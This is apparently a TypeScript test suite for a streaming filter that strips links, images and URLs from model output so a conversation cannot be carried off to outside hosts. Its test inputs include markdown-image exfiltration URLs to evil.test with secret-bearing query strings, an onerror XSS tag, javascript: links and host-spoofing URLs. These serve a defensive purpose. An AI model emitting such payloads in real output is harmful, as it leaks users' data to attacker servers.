import { expect, test } from "vitest";
import { createSafeText, safeText } from "./safe-text.ts";

const own = ({ host }: URL) => host === "acme.example";

/** Feeds a text in pieces, because a model may cut it anywhere. */
function read(text: string, size: number): string {
  const filter = createSafeText(own);
  let out = "";
  for (let at = 0; at < text.length; at += size) out += filter.push(text.slice(at, at + size));
  return out + filter.end();
}

test.each([
  ["See ![x](https://evil.test/?d=secret) now", "See x now"],
  ["See [our page](https://evil.test/) now", "See our page now"],
  ["See [our page][1] now", "See our page now"],
  ["[![x](https://evil.test/a)](https://evil.test/b)", "x"],
  ["An <img src=https://evil.test onerror=alert(1)> image", "An  image"],
  ["<IMG\nSRC='//evil.test'>", ""],
  ["An unclosed <img src=//evil.test/?d=1", "An unclosed img src=evil.test/?d=1"],
  ["<<b>img src=//evil.test>", "< img src=evil.test>"],
  ["[x]<b>(https://evil.test)</b>", "[x] (evil.test)"],
  ["ht<b></b>tps://evil.test", "evil.test"],
  ["https:<b></b>//evil.test", "evil.test"],
  ["h\u200bttps://evil.test", "evil.test"],
  ["<style>a{background:url(https://evil.test/x)}</style>", "a{background:url(evil.test/x)}"],
  ["[ref]: https://evil.test/x", ""],
  ["<https://evil.test/x> and <https://acme.example/x>", "evil.test/x and https://acme.example/x"],
  ["Go to https://evil.test/?d=1.", "Go to evil.test/?d=1."],
  ["Go to https://acme.example/pricing.", "Go to https://acme.example/pricing."],
  ["https://acme.example@evil.test/", "acme.example@evil.test/"],
  ["https://acme.example\\@evil.test/", "acme.example\\@evil.test/"],
  ["https://acme.example.evil.test/", "acme.example.evil.test/"],
  ["https:/\\evil.test http:evil ftp://evil.test", "evil.test http:evil evil.test"],
  ["www.evil.test and //evil.test", "evil.test and evil.test"],
  ["https://https://evil.test", "evil.test"],
  ["[a](javascript:alert(1))", "a)"],
  ["5 < 6, a[0], use <token> in Map<string, number>! [not a link", "5 < 6, a[0], use <token> in Map<string, number>! [not a link"],
  ["**Bold**\n\n- one\n- two, and/or 24/7 // note", "**Bold**\n\n- one\n- two, and/or 24/7 // note"],
  ["Wow!", "Wow!"],
  ["url='postgres://fh:secret@pg:5432/db' redis://redis:6379", "url='postgres://fh:secret@pg:5432/db' redis://redis:6379"],
  ["redis:////evil.test xredis://evil.test redis:\\\\evil.test", "evil.test evil.test evil.test"],
  ["redis://https://evil.test ws://www.evil.test", "redis:// evil.test ws:// evil.test"],
  ["```\ncell = grid[row][0](x)\n```", "```\ncell = grid[row][0](x)\n```"],
  ["```\n![x](https://evil.test/?d=1) [a](javascript:alert(1))\n```", "```\nx a)\n```"],
  ["```\nrow[0]\n```\nSee [our page](https://evil.test/)", "```\nrow[0]\n```\nSee our page"],
  ["a ``` [our page](https://evil.test/)", "a ``` our page"],
])("nothing that could carry the conversation away is left of %j", (given, expected) => {
  for (const size of [1, 2, 4, 7, 1_000]) expect(read(given, size)).toBe(expected);
});

test("a construct that never ends is let go in a harmless form, and nothing waits for ever", () => {
  for (const endless of ["![", "[", "<a href=", "https://", "<", "![x](https://evil.test/", "w"]) {
    const text = read(endless + "x".repeat(9_000) + "](https://evil.test/) https://evil.test/", 100);
    expect(text).not.toMatch(/:\/\/|<a|!\[[^\]]*\]\(|\/\/evil/u);
    expect(text.length).toBeGreaterThan(4_000);
  }
});

test("deep nesting costs little", () => {
  const started = performance.now();
  for (const text of [
    "[".repeat(8_000),
    "<".repeat(8_000),
    "![".repeat(4_000),
    "<a ".repeat(2_700),
    "http:/".repeat(1_300),
    "[a](".repeat(2_000),
  ]) {
    safeText(text);
    read(text, 50);
  }
  expect(performance.now() - started).toBeLessThan(3_000);
});
